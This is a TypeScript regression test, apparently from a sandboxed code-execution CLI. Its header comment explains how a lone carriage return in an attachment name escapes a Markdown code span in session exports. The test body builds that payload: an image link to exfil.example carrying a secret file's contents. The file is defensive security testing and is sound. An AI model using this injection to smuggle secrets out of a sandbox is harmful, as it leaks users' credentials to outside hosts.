// Attack (eleventh outsider pass; SECURITY.md, "The same for everything else the CLI prints from a
// sandbox": `vis sessions export -o FILE` writes the exact bytes, and "Its Markdown never renders sandbox
// text as markup (tenth outsider pass: a network-off block's error `![s](https://…?d=<secret>)` became an
// image every viewer fetched): ... names and codes sit in code spans longer than any backtick run inside"
// (src/persistence/markdown.ts `codeSpan`). codeSpan makes its text one line by folding `\n` only, but
// CommonMark ends a line at a lone carriage return too ("a carriage return not followed by a line feed"),
// and block structure is parsed before inline structure: an attachment name `x\r# ![a](URL?d=SECRET)`
// leaves the list item as "- `x" (an unclosed backtick, plain text) and starts a new line, an ATX heading,
// whose text holds an image outside every code span. Every viewer of the export fetches the URL with the
// secret a network-off block read. (`\r` is equally a line break in a quoted prompt: renderRequest splits
// on `\n` only.)
//
// Reproduction: a session (network off) on R, R/secret.txt holding a token; one block:
//   vis_attach_bytes(b'hi', name='x\r# ![a](https://exfil.example/n?d=' + open('secret.txt').read().strip() + ')')
// then `vis sessions export ID -o FILE`; read FILE by CommonMark's line endings: outside code spans a line
// holds the image. A fix: fold every line ending (`\r`, and U+2028/U+0085 for viewers that split there) in
// codeSpan/oneLine, or escape the text inside spans too.
import assert from 'node:assert/strict'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { prose, sessionReadingSecret, visExport } from './sessions-export-markdown.js'

const base = mkdtempSync(join(tmpdir(), 'vis-attack-export-cr-'))
after(() => rmSync(base, { recursive: true, force: true }))

test('a carriage return in an attachment name does not break the export out of its code span', async () => {
  const { home, id, blocks } = await sessionReadingSecret(base, 'TOKEN-5678', [
    "vis_attach_bytes(b'hi', name='x\\r# ![a](https://exfil.example/n?d=' + open('secret.txt').read().strip() + ')')\n" +
      "print('ok')",
  ])
  assert.match(blocks[0]!.stdout ?? '', /ok/, JSON.stringify(blocks[0]))
  const file = join(base, 'export.md')
  const r = visExport(home, id, '-o', file)
  assert.equal(r.status, 0, r.stderr)
  const md = readFileSync(file, 'utf8')
  assert.match(md, /TOKEN-5678/, `the export does not hold the attachment's name: ${JSON.stringify(md)}`)
  const images = prose(md).flatMap((l) => l.match(/!\[[^\]]*\]\([^)]*\)/g) ?? [])
  assert.deepEqual(
    images,
    [],
    `the exported Markdown renders the sandbox's attachment name as an image a viewer fetches (the secret in its URL): ${images.join(' ')}`,
  )
})
